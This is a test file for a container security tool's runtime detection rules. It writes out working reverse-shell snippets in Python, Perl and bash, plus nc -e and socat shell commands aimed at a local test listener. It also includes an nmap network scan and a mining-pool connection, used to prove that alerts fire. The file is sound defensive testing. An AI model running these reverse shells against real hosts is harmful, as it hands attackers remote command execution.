// SPDX-FileCopyrightText: Bartizan contributors
// SPDX-License-Identifier: Apache-2.0

import { copyFileSync } from 'node:fs';
import { join } from 'node:path';
import { type AttackCase, AttackStage } from '@bartizan/testkit/attack';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { expectProof } from '../attack-suite.ts';

const RULE = 'runtime.reverse-shell';
const OWASP: AttackCase['expected']['owasp'] = { 2022: ['K07'], 2025: ['K05'] };
/** The event has to be in the API within one second; five times that ends the test. */
const PROMISE_MS = 1000;

/** Connects and starts a shell. The attack gives it the connection as input and output, the twin does not. */
const python = (isAttack: boolean): string =>
  [
    'import os, socket, subprocess, sys',
    'link = socket.create_connection(("127.0.0.1", int(sys.argv[1])))',
    ...(isAttack ? ['for end in (0, 1, 2): os.dup2(link.fileno(), end)'] : []),
    'subprocess.call(["/bin/sh", "-c", "id"])',
    '',
  ].join('\n');
const perl = (isAttack: boolean): string =>
  [
    'use Socket;',
    'socket(LINK, PF_INET, SOCK_STREAM, getprotobyname("tcp") || 6);',
    'connect(LINK, pack_sockaddr_in($ARGV[0], inet_aton("127.0.0.1"))) or die "no: $!";',
    ...(isAttack ? ['open(STDIN, "<&LINK"); open(STDOUT, ">&LINK"); open(STDERR, ">&LINK");'] : []),
    'system("/bin/sh", "-c", "id");',
    '',
  ].join('\n');
const bash = (isAttack: boolean): string =>
  ['exec 9<>/dev/tcp/127.0.0.1/$1', isAttack ? 'exec bash -c id <&9 >&9 2>&9' : 'exec bash -c id', ''].join(
    '\n',
  );

const POOL = '203.0.113.9';
const stage = new AttackStage({
  rules: [RULE, 'runtime.network-tool', 'runtime.mining-pool-connection'],
  prepare: (lower) => {
    for (const name of ['nmap', 'worker']) copyFileSync('/bin/true', join(lower, 'opt', name));
  },
  files: {
    '/opt/attack.py': { text: python(true) },
    '/opt/twin.py': { text: python(false) },
    '/opt/attack.pl': { text: perl(true) },
    '/opt/twin.pl': { text: perl(false) },
    '/opt/attack.sh': { text: bash(true) },
    '/opt/twin.sh': { text: bash(false) },
  },
});

/** A shell that is told by what its input and output are. */
const onSocket = (program: string): AttackCase['expected'] => ({
  severity: 'critical',
  program,
  because: ['process.name', 'stdio.in', 'stdio.out'],
  owasp: OWASP,
  technique: 'T1059.004',
});

const cases = (port: string): readonly AttackCase[] => [
  {
    name: 'bash',
    rule: RULE,
    attack: ['/bin/bash', '/opt/attack.sh', port],
    twin: ['/bin/bash', '/opt/twin.sh', port],
    expected: onSocket('bash'),
  },
  {
    name: 'python',
    rule: RULE,
    attack: ['/usr/bin/python3', '/opt/attack.py', port],
    twin: ['/usr/bin/python3', '/opt/twin.py', port],
    expected: onSocket('dash'),
  },
  {
    name: 'perl',
    rule: RULE,
    attack: ['/usr/bin/perl', '/opt/attack.pl', port],
    twin: ['/usr/bin/perl', '/opt/twin.pl', port],
    expected: onSocket('dash'),
  },
  {
    name: 'nc -e',
    rule: RULE,
    attack: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/sh'],
    twin: ['/bin/nc', '127.0.0.1', port, '-e', '/bin/cat'],
    expected: onSocket('dash'),
  },
  {
    name: 'socat',
    rule: RULE,
    attack: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'exec:/bin/sh'],
    twin: ['/usr/bin/socat', `tcp:127.0.0.1:${port}`, 'open:/dev/null'],
    expected: { ...onSocket('socat'), because: ['process.name', 'process.command-line'] },
  },
];
const others: readonly AttackCase[] = [
  {
    name: 'a network scanner',
    rule: 'runtime.network-tool',
    attack: ['/opt/nmap', '-sS', '10.0.0.0/8'],
    twin: ['/opt/worker', '-sS', '10.0.0.0/8'],
    expected: {
      severity: 'medium',
      program: 'nmap',
      because: ['process.name'],
      owasp: OWASP,
      technique: 'T1046',
    },
  },
  {
    name: 'a connection to a mining pool',
    rule: 'runtime.mining-pool-connection',
    attack: ['/bin/nc', POOL, '3333'],
    twin: ['/bin/nc', POOL, '3334'],
    expected: {
      severity: 'medium',
      program: 'busybox',
      because: ['connection.direction', 'connection.remote-port', 'connection.remote-scope'],
      owasp: OWASP,
      technique: 'T1496',
    },
  },
];
const names = cases('0').map(({ name }, at): [string, number] => [name, at]);

describe('a reverse shell in a container', () => {
  let played: readonly AttackCase[] = [];
  beforeAll(async () => {
    await stage.start();
    played = cases(String(await stage.listen({ addresses: [POOL] })));
    for (const port of [3333, 3334]) await stage.listen({ port });
  }, 600_000);
  afterAll(() => stage.close(), 60_000);

  it.each(names)(
    'by %s raises a critical alert with its reasons, and its twin none',
    async (name, at) => {
      const one = played[at];
      if (one === undefined) throw new Error(name);
      const outcome = await expectProof(stage, one);
      process.stdout.write(
        `reverse shell by ${name}: in the API after ${Math.round(outcome.seenAfterMs)} ms (promise ${PROMISE_MS} ms)\n`,
      );
      expect(outcome.event?.chain?.ancestors.length).toBeGreaterThan(0);
      expect(outcome.seenAfterMs).toBeLessThan(5 * PROMISE_MS);
    },
    240_000,
  );

  it.each(others)(
    '$name raises an alert with its reasons, and its twin none',
    async (one) => {
      await expectProof(stage, one);
    },
    240_000,
  );

  it('without the rules there is none', async () => {
    await stage.disarm();
    expect(await stage.playDisarmed([...played, ...others])).toEqual([]);
  }, 600_000);
});
